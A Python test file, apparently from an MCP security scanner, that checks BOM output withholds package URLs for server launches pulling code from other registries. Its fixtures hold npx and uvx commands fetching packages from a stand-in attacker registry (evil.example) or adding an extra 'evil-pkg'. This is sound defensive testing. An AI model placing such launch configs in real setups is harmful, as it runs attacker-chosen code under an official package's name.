"""A BOM's package URL says which package a component is, and a consumer (Dependency-Track and
the like) matches advisories and policies by it. ``scan -f cyclonedx`` gave a config's
``npx -y --registry=https://evil.example/ @modelcontextprotocol/server-github@2025.4.8`` the
official package's URL, although npx fetches that name from the attacker's registry; so too
``uvx --index-url ...``, ``uvx --with evil-pkg==1.0.0 ...`` (another package installed beside
it) and a variable naming another registry: the BOM claimed the official package for code of
anyone's. The registry judges such a server a local command it cannot tell (what runs is not
the package reviewed); the BOM now agrees: no package URL, and a property saying what goes
beyond the package. A server run by its package alone keeps its URL."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from test_bom_package_names import bom_components

BEYOND = {
    "other-registry": {
        "command": "npx",
        "args": ["-y", "--registry=https://evil.example/", "@modelcontextprotocol/server-github@2025.4.8"],
    },
    "other-index": {
        "command": "uvx",
        "args": ["--index-url", "https://evil.example/simple", "mcp-server-fetch==2025.4.7"],
    },
    "beside-it": {"command": "uvx", "args": ["--with", "evil-pkg==1.0.0", "mcp-server-fetch==2025.4.7"]},
    "registry-variable": {
        "command": "npx",
        "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
        "env": {"npm_config_registry": "https://evil.example/"},
    },
}
CLEAN = {
    "github": {
        "command": "npx",
        "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8", "--toolsets", "repos"],
        "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "${GITHUB_TOKEN}"},
    },
    "fetch": {"command": "uvx", "args": ["mcp-server-fetch==2025.4.7"]},
}


def _components(cli: Any, tmp_path: Path) -> dict[str, dict[str, Any]]:
    components = bom_components(cli, tmp_path, {**BEYOND, **CLEAN})
    by_server = {}
    for component in components:
        properties = {p["name"]: p["value"] for p in component.get("properties", ())}
        by_server[component["description"].split("'")[1]] = component | {"properties": properties}
    return by_server


def test_a_launch_beyond_its_package_claims_no_package_url(cli: Any, tmp_path: Path) -> None:
    components = _components(cli, tmp_path)
    for server in BEYOND:
        component = components[server]
        assert "purl" not in component, (server, component.get("purl"))
        assert component["properties"]["mcpward:beyond-package"], server


def test_a_package_run_by_itself_keeps_its_package_url(cli: Any, tmp_path: Path) -> None:
    components = _components(cli, tmp_path)
    assert components["github"]["purl"] == "pkg:npm/%40modelcontextprotocol/server-github@2025.4.8"
    assert components["fetch"]["purl"] == "pkg:pypi/mcp-server-fetch@2025.4.7"
    assert not any("mcpward:beyond-package" in components[server]["properties"] for server in CLEAN)
